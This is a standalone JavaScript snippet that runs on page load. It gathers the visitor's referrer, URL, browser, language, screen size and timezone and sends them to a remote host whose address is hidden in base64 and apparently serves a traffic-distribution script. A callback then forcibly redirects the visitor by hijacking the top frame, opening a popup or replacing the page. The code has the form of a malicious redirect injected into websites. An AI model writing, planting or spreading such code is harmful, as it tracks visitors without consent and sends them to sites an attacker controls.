(function (d, w) {
  var params = [
    'r=' + encodeURIComponent(d.referrer),
    'u=' + encodeURIComponent(w.location.href),
    'ua=' + encodeURIComponent(navigator.userAgent),
    'lang=' + encodeURIComponent(navigator.language),
    'sw=' + w.screen.width,
    'sh=' + w.screen.height,
    'tz=' + (-new Date().getTimezoneOffset()),
    'ck=' + (navigator.cookieEnabled ? 1 : 0),
    'cb=' + Math.random().toString(36).slice(2)
  ];

  var cbName = '_tds' + Math.floor(Math.random() * 1e6);
  w[cbName] = function (res) {
    try { delete w[cbName]; } catch (e) { w[cbName] = undefined; }
    if (!res || !res.go) return;
    if (res.mode === 'top') {
      w.top.location.href = res.go;
    } else if (res.mode === 'pop') {
      w.open(res.go, '_blank');
    } else {
      w.location.replace(res.go);
    }
  };

  var s = d.createElement('script');
  s.src = atob('aHR0cHM6Ly9hZHYtZGVsaXZlcnktbmV0LmljdS9mL3Rkcy5qcw==') + '?' + params.join('&') + '&callback=' + cbName;
  s.async = true;
  var first = d.getElementsByTagName('script')[0];
  first.parentNode.insertBefore(s, first);
})(document, window);
